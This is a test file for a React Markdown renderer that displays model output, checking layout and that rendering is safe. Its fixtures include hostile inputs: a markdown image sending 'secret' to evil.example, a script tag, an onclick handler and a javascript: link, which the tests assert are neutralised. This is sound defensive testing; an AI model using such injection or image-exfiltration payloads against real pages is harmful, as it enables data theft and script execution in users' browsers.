// @vitest-environment happy-dom
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { TooltipProvider } from "../../ui/Tooltip.tsx";
import { Markdown } from "./Markdown.tsx";

afterEach(cleanup);

const rendered = (source: string): HTMLElement =>
  render(
    <TooltipProvider>
      <Markdown source={source} growing={false} />
    </TooltipProvider>,
  ).container;

test("what a model writes is laid out", () => {
  const box = rendered("## Plan\n\n- one\n- `two`\n\n```ts\nconst x = 1;\n```\n");
  expect(box.querySelector("h2")?.textContent).toBe("Plan");
  expect(Array.from(box.querySelectorAll("li"), (item) => item.textContent)).toEqual([
    "one",
    "two",
  ]);
  expect(box.querySelector("pre code")?.textContent).toBe("const x = 1;\n");
});

test("no image is loaded, whatever its address", () => {
  const box = rendered(
    '![leak](https://evil.example/?d=secret) <img src="https://evil.example/x"> ![](data:image/png;base64,AA)',
  );
  expect(box.querySelectorAll("img, picture, source, iframe, video, link")).toHaveLength(0);
  expect(box.textContent).toContain("[image not shown: leak]");
});

test("tags are text, and run nothing", () => {
  const box = rendered('<script>alert(1)</script>\n\n<b onclick="x()">bold</b> <style>*{}</style>');
  expect(box.querySelectorAll("script, style, b, [onclick]")).toHaveLength(0);
  expect(box.textContent).toContain("<b onclick");
});

test("a link leads nowhere by itself", () => {
  const box = rendered("[Sign in](javascript:alert(1)) and [docs](https://docs.example/a)");
  const links = Array.from(box.querySelectorAll("a"));
  for (const link of links) {
    const click = new MouseEvent("click", { bubbles: true, cancelable: true });
    link.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
  }
  expect(links.map((link) => link.getAttribute("href"))).not.toContain("javascript:alert(1)");
});
